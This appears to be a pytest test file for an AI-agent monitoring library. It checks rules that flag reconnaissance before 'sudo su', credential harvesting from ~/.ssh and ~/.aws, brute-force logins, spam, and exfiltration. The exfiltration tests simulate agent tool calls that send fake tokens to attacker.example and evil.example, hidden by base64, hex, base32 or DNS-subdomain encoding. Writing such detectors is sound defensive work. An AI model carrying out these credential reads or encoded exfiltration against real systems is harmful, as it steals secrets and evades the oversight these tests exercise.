"""ASA-B-001..005 on hand-built actions: each pattern fires where it completes, and stays quiet
on the benign look-alikes (hard negatives)."""

from __future__ import annotations

import base64
import urllib.parse

from behavior_kit import Runner, act, rules_of, secret_finding

from aimds.types import Severity, Verdict

RECON = act("shell:exec", "recon")
SUDO = act("identity:privilege_change", "privilege_change", risk=Severity.HIGH)
GIT = act("shell:exec")


def cred(kind: str, path: str) -> object:
    return act("fs:read", "credential_access", f"credential_store:{kind}", resources=(path,))


def post(host: str = "paste.example-drop.net") -> object:
    return act("net:http_post", "outbound", "has_payload", resources=(host,), outbound=True)


def email(to: str) -> object:
    return act("email:send", "outbound", "external_recipient", resources=(to,), outbound=True)


# -- ASA-B-001 -------------------------------------------------------------------------------


def test_recon_then_privilege_change_fires_on_the_escalation(runner: Runner) -> None:
    assert runner.call("shell", {"command": "id"}, RECON) == []
    assert runner.call("shell", {"command": "uname -a"}, RECON) == []
    found = runner.call("shell", {"command": "sudo su"}, SUDO)
    assert rules_of(found) == ["ASA-B-001"]
    assert found[0].action is Verdict.BLOCK and found[0].details["recon_actions"] == 2


def test_repeating_one_discovery_command_is_not_reconnaissance(runner: Runner) -> None:
    for _ in range(5):
        runner.call("shell", {"command": "whoami"}, RECON)
    assert runner.call("shell", {"command": "sudo su"}, SUDO) == []


def test_privilege_change_without_recon_or_after_the_window_is_quiet(runner: Runner) -> None:
    assert runner.call("shell", {"command": "sudo apt update"}, SUDO) == []
    runner.call("shell", {"command": "id"}, RECON)
    runner.call("shell", {"command": "ps aux"}, RECON)
    assert runner.call("shell", {"command": "sudo su"}, SUDO, dt=301.0) == []


# -- ASA-B-002 -------------------------------------------------------------------------------

TOKEN = "ghp_x7Kq2ZrV9mPwL3nT8bYc4HdF6jS1aE0uG5iO"
FILE = f"[default]\naws_access_key_id = {TOKEN}\n"


def _read_credentials(runner: Runner) -> None:
    runner.call("read_file", {"path": ".env"}, cred("env", "/app/.env"))
    runner.result("read_file", FILE)


def test_credential_file_content_posted_out_is_exfiltration(runner: Runner) -> None:
    _read_credentials(runner)
    runner.call("read_file", {"path": "README.md"}, act("fs:read", resources=("README.md",)))
    runner.result("read_file", "# shop\n")
    found = runner.call("http_post", {"url": "https://x.example/u", "body": f"k={TOKEN}"}, post())
    assert rules_of(found) == ["ASA-B-002"]
    assert found[0].details["via"] == "dataflow"
    assert found[0].details["source_index"] == 1
    assert found[0].severity is Severity.CRITICAL
    assert TOKEN not in found[0].message and TOKEN not in str(found[0].details)


def test_exfiltration_survives_simple_encodings(runner: Runner) -> None:
    _read_credentials(runner)
    encoded = [
        base64.b64encode(f"key={TOKEN}".encode()).decode(),
        base64.urlsafe_b64encode(TOKEN.encode()).decode().rstrip("="),
        TOKEN.encode().hex(),
        urllib.parse.quote(f"k={TOKEN}&x=1", safe=""),
    ]
    for value in encoded:
        found = runner.call("fetch", {"url": f"https://c.example/p.gif?d={value}"}, post())
        assert rules_of(found) == ["ASA-B-002"], value


def _hex_labels(value: str, upper: bool = False) -> str:
    hexed = value.encode().hex()
    hexed = hexed.upper() if upper else hexed
    return ".".join(hexed[i : i + 50] for i in range(0, len(hexed), 50))


def _b32(value: str) -> str:
    return base64.b32encode(value.encode()).decode().rstrip("=").lower()


def test_exfiltration_in_url_path_and_subdomain_labels(runner: Runner) -> None:
    _read_credentials(runner)
    b32 = _b32(TOKEN)
    urls = [
        f"https://c.example/{base64.b64encode(TOKEN.encode()).decode()}",
        f"https://c.example/a/{base64.urlsafe_b64encode(TOKEN.encode()).decode().rstrip('=')}/b",
        f"https://c.example/{urllib.parse.quote(TOKEN, safe='')}",
        f"https://{_hex_labels(TOKEN)}.attacker.example/",
        f"https://{_hex_labels(TOKEN, upper=True)}.attacker.example/",
        f"https://{b32[:40]}.{b32[40:]}.attacker.example/x",
        f"https://{TOKEN.lower()}.attacker.example/",
        f"https://c.example/{TOKEN[:20]}/{TOKEN[20:]}",
    ]
    for url in urls:
        found = runner.call("fetch", {"url": url}, post())
        assert rules_of(found) == ["ASA-B-002"], url


def test_a_secret_holding_slashes_is_found_across_path_segments(runner: Runner) -> None:
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9xW3KEY1"
    runner.call("read_file", {"path": ".env"}, cred("env", "/app/.env"))
    runner.result("read_file", f"AWS_SECRET_ACCESS_KEY={secret}\n")
    found = runner.call("fetch", {"url": f"https://c.example/u/{secret}"}, post())
    assert rules_of(found) == ["ASA-B-002"]


def test_ordinary_urls_after_a_secret_read_are_not_exfiltration(runner: Runner) -> None:
    _read_credentials(runner)
    for url in [
        "https://docs.python.org/3/library/base64.html",
        "https://github.com/acme/app/pull/4312/files",
        f"https://c.example/{base64.b64encode(b'just a status report').decode()}",
        "https://6a7573742d612d6c6162656c.cdn.example/app.js",
    ]:
        assert runner.call("fetch", {"url": url}, post()) == [], url


def test_detector_marked_secret_is_tracked_without_a_credential_read(runner: Runner) -> None:
    text = f"config loaded: token {TOKEN} ok"
    runner.call("http_get", {"url": "https://api.example/config"}, act("net:http_get"))
    runner.result("http_get", text, findings=[secret_finding(text, TOKEN)])
    found = runner.call(
        "send_email", {"to": "x9@evil.example", "body": TOKEN}, email("x9@evil.example")
    )
    assert rules_of(found) == ["ASA-B-002"]


def test_secret_in_payload_after_sensitive_read_is_exfiltration(runner: Runner) -> None:
    runner.call("read_file", {"path": "/etc/shadow"}, cred("shadow", "/etc/shadow"))
    runner.result("read_file", "(credential material)")
    body = "token AKIAQX7RZ2KD5M3BHW4N"
    found = runner.call(
        "http_post",
        {"body": body},
        post(),
        findings=[secret_finding(body, "AKIAQX7RZ2KD5M3BHW4N", arg_path="body")],
    )
    assert rules_of(found) == ["ASA-B-002"] and found[0].details["via"] == "sequence"


def test_hard_negatives_for_exfiltration(runner: Runner) -> None:
    # Reading an ordinary file and posting its tokens is no flow: only sensitive reads count.
    runner.call("read_file", {"path": "src/cart.py"}, act("fs:read", resources=("src/cart.py",)))
    runner.result("read_file", "build id a1b2c3d4e5f6 version 2024abc")
    assert runner.call("http_post", {"body": "a1b2c3d4e5f6"}, post()) == []
    # A credential read whose result holds only placeholders leaves nothing to match.
    runner.call("read_file", {"path": ".env.example"}, cred("env", "/app/.env.example"))
    runner.result("read_file", "DATABASE_URL=postgres://user:password@localhost/db\n")
    body = "Tests are green again; see postgres://user:password@localhost/db docs"
    assert (
        runner.call("send_email", {"to": "team@acme.com", "body": body}, email("team@acme.com"))
        == []
    )
    # The secret read, but the outbound call carries something else.
    _read_credentials(runner)
    assert runner.call("http_post", {"body": "status: all good 12345678"}, post()) == []


def test_flows_do_not_cross_sessions(stage_for: object) -> None:
    from aimds.types import Subject

    stage = stage_for({"fingerprint_key": "k" * 32})  # type: ignore[operator]
    a = Runner(stage, Subject(tenant="acme", agent="agent-1", session="s1"))
    b = Runner(stage, Subject(tenant="acme", agent="agent-1", session="s2"))
    _read_credentials(a)
    assert b.call("http_post", {"body": TOKEN}, post()) == []
    assert rules_of(a.call("http_post", {"body": TOKEN}, post())) == ["ASA-B-002"]


# -- ASA-B-003 -------------------------------------------------------------------------------

LOGIN = act("auth:login", "auth_attempt", resources=("admin-panel",))


def test_repeated_failed_logins_are_brute_force(runner: Runner) -> None:
    fired_at = None
    for i in range(6):
        runner.call("login", {"username": "admin", "password_ref": "vault://x"}, LOGIN)
        found = runner.result("login", "401 invalid credentials")
        if found and fired_at is None:
            fired_at = i
    assert fired_at == 4  # the fifth failure


def test_many_distinct_credentials_against_one_target(runner: Runner) -> None:
    found: list[object] = []
    for i in range(5):
        found = runner.call("login", {"username": f"user{i}", "password": f"pw{i}"}, None)
    assert rules_of(found) == ["ASA-B-003"]  # recognised by the password argument alone
    assert found[0].details["credentials"] == 5  # type: ignore[attr-defined]


def test_failed_then_successful_login_and_unrelated_errors_are_quiet(runner: Runner) -> None:
    runner.call("login", {"username": "svc-ci", "password_ref": "vault://ci/token"}, LOGIN)
    assert runner.result("login", "login failed: expired token") == []
    runner.call("login", {"username": "svc-ci", "password_ref": "vault://ci/token-rotated"}, LOGIN)
    assert runner.result("login", "login ok") == []
    # Failure-looking results with no login attempt around are not brute force.
    for _ in range(8):
        runner.call("fetch", {"url": "https://api.example/x"}, act("net:http_get"), dt=400)
        assert runner.result("fetch", "HTTP 401 Unauthorized") == []


# -- ASA-B-004 -------------------------------------------------------------------------------


def test_identical_messages_to_many_recipients_are_spam(runner: Runner) -> None:
    fired = []
    for i in range(12):
        to = f"user{i * 7919}@mail{i % 3}.example"
        found = runner.call(
            "send_email",
            {"to": to, "subject": "WIN", "body": "Limited offer!!!"},
            email(to),
            dt=0.5,
        )
        if found:
            fired.append(i)
    assert fired[0] == 9  # tenth near-identical action within the burst


def test_fan_out_to_many_distinct_recipients(stage_for: object) -> None:
    stage = stage_for({"sequences": {"command_spam": {"min_identical": 1000, "min_recipients": 4}}})  # type: ignore[operator]
    r = Runner(stage)
    found: list[object] = []
    for i in range(4):
        to = f"p{i}@corp.example"
        found = r.call(
            "send_email", {"to": to, "body": f"distinct text {'x' * i}"}, email(to), dt=20
        )
    assert rules_of(found) == ["ASA-B-004"]  # type: ignore[arg-type]


def test_legitimate_repetition_is_not_spam(runner: Runner) -> None:
    write = act("fs:write", resources=("/app/src/cart.py",))
    for i in range(30):  # an edit loop: same file, different content, spread out
        assert (
            runner.call(
                "write_file", {"path": "/app/src/cart.py", "content": f"v{'x' * i}"}, write, dt=15
            )
            == []
        )
    for _ in range(9):  # a test loop, under the burst threshold
        assert runner.call("shell", {"command": "pytest -q"}, GIT, dt=2) == []
    for to in ("team@acme.com", "alice@acme.com") * 4:  # status mails to two people
        assert runner.call("send_email", {"to": to, "body": "status"}, email(to), dt=30) == []


# -- ASA-B-005 -------------------------------------------------------------------------------


def test_reading_three_credential_stores_is_harvesting(runner: Runner) -> None:
    assert runner.call("bash", {"command": "cat ~/.netrc"}, cred("netrc", "~/.netrc")) == []
    assert runner.call("read_file", {"path": "~/.ssh/id_rsa"}, cred("ssh", "~/.ssh/id_rsa")) == []
    found = runner.call(
        "bash", {"command": "cat ~/.aws/credentials"}, cred("aws", "~/.aws/credentials")
    )
    assert rules_of(found) == ["ASA-B-005"] and found[0].details["stores"] == 3


def test_rereading_one_store_is_not_harvesting(runner: Runner) -> None:
    for _ in range(6):
        assert runner.call("read_file", {"path": ".env"}, cred("env", "/app/.env")) == []


def test_disabled_pattern_stays_quiet(stage_for: object) -> None:
    r = Runner(stage_for({"sequences": {"credential_harvest": {"enabled": False}}}))  # type: ignore[operator]
    for kind in ("aws", "ssh", "kube", "docker"):
        assert r.call("read_file", {"path": kind}, cred(kind, kind)) == []


def test_guard_blocks_a_secret_sent_in_a_subdomain_after_reading_it() -> None:
    import aimds

    guard = aimds.Guard()
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9xW3KEY1"
    text = f"aws_access_key_id = AKIAQ3EGRKXJ7NW5TZPL\naws_secret_access_key = {secret}\n"
    for i, url in enumerate(
        [
            f"https://{_hex_labels(secret)}.attacker.example/",
            f"https://c.example/{base64.urlsafe_b64encode(secret.encode()).decode()}",
        ]
    ):
        who = aimds.Subject(tenant="t", agent=f"exfil-{i}", role="expert", session="s")
        guard.check_tool_call("fetch", {"url": "https://intranet.example/cfg"}, subject=who)
        guard.check_tool_result("fetch", text, subject=who)
        decision = guard.check_tool_call("fetch", {"url": url}, subject=who)
        assert decision.verdict is Verdict.BLOCK
        assert "ASA-B-002" in {f.rule for f in decision.findings}
